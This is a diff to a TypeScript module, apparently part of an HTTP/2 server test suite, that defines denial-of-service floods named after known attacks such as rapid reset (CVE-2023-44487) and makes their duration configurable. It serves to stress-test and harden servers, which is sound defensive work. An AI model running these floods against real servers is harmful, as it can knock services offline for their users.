@@ -2,6 +2,7 @@
  * Well-formed HTTP/2 in amounts that no client sends. The names are those under which such attacks became known.
  * @module
  */
+
 import { type AttackOptions, attack, attackers, repeat, type Target } from "./attack.ts";
 import {
   callHeaders,
@@ -18,13 +19,16 @@ import {
   uint32,
 } from "./http2-frames.ts";
 
-/** How long one connection floods. */
+/** How long one connection floods, if nobody says otherwise. */
 const FLOOD_MS = 1500;
 const CONNECTIONS = 4;
 const MAX_UINT31 = 2 ** 31 - 1;
 
+/** Sends it for about so long. */
+export type Flood = (target: Target, floodMs?: number) => Promise<void>;
+
 /** By name; each ends by itself within a few seconds. */
-export const FLOODS: ReadonlyMap<string, (target: Target) => Promise<void>> = new Map([
+export const FLOODS: ReadonlyMap<string, Flood> = new Map([
   [
     "streams that are reset at once (rapid reset, CVE-2023-44487)",
     flood(() => streams((id) => [openCall("List", id), reset(id)])),
@@ -204,13 +208,10 @@ export const FLOODS: ReadonlyMap<string, (target: Target) => Promise<void>> = ne
   ["greetings without rest", (target) => attackers(400, 20, () => attack(target, [PREFACE]))],
 ]);
 
-function flood(
-  chunks: () => Iterable<Uint8Array>,
-  options: AttackOptions = {},
-): (target: Target) => Promise<void> {
-  return (target) =>
+function flood(chunks: () => Iterable<Uint8Array>, options: AttackOptions = {}): Flood {
+  return (target, floodMs = FLOOD_MS) =>
     attackers(CONNECTIONS, CONNECTIONS, () =>
-      attack(target, following(GREETING, chunks()), { limitMs: FLOOD_MS, ...options }),
+      attack(target, following(GREETING, chunks()), { limitMs: floodMs, ...options }),
     );
 }
 
